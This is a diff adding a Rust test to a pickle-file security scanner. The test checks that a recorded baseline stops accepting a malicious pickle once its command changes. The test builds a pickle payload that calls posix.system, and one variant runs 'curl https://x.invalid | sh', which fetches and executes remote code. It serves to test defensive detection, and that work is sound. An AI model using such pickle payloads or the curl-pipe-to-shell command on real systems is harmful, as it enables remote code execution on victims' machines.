@@ -577,6 +577,38 @@ fn a_baseline_fails_only_on_new_findings() {
     std::fs::remove_dir_all(&dir).ok();
 }
 
+/// A baseline accepts a pickle payload only as it was: the same global calling anything else
+/// is a new finding.
+#[test]
+fn a_baseline_stops_accepting_a_payload_that_changed() {
+    let dir = crate::common::TempDir::new("baseline-payload");
+    let (pickle, baseline) = (dir.0.join("run.pkl"), dir.0.join("baseline.json"));
+    let (pickle, baseline) = (pickle.to_str().unwrap(), baseline.to_str().unwrap());
+    let payload = |command: &str| format!("cposix\nsystem\n(S'{command}'\ntR.");
+    std::fs::write(pickle, payload("echo accepted")).unwrap();
+    let out = tensorplay(&["audit", "--write-baseline", baseline, pickle]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let written: serde_json::Value =
+        serde_json::from_str(&std::fs::read_to_string(baseline).unwrap()).unwrap();
+    let recorded = written["findings"][0]["payload"]
+        .as_str()
+        .unwrap_or_default();
+    assert_eq!(recorded.len(), 64, "{written}");
+    let audit = || tensorplay(&["audit", "--ci-mode", "--baseline", baseline, pickle]);
+    assert_eq!(
+        audit().status.code(),
+        Some(0),
+        "the accepted payload, unchanged"
+    );
+    std::fs::write(pickle, payload("curl https://x.invalid | sh")).unwrap();
+    let out = audit();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let r: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
+    let finding = &r["files"][0]["findings"][0];
+    assert_eq!(finding["code"], "TP501");
+    assert_ne!(finding["payload"], recorded);
+}
+
 #[test]
 fn a_baseline_never_hides_an_unreadable_checkpoint() {
     let dir = std::env::temp_dir().join(format!("tensorplay-unreadable-{}", std::process::id()));
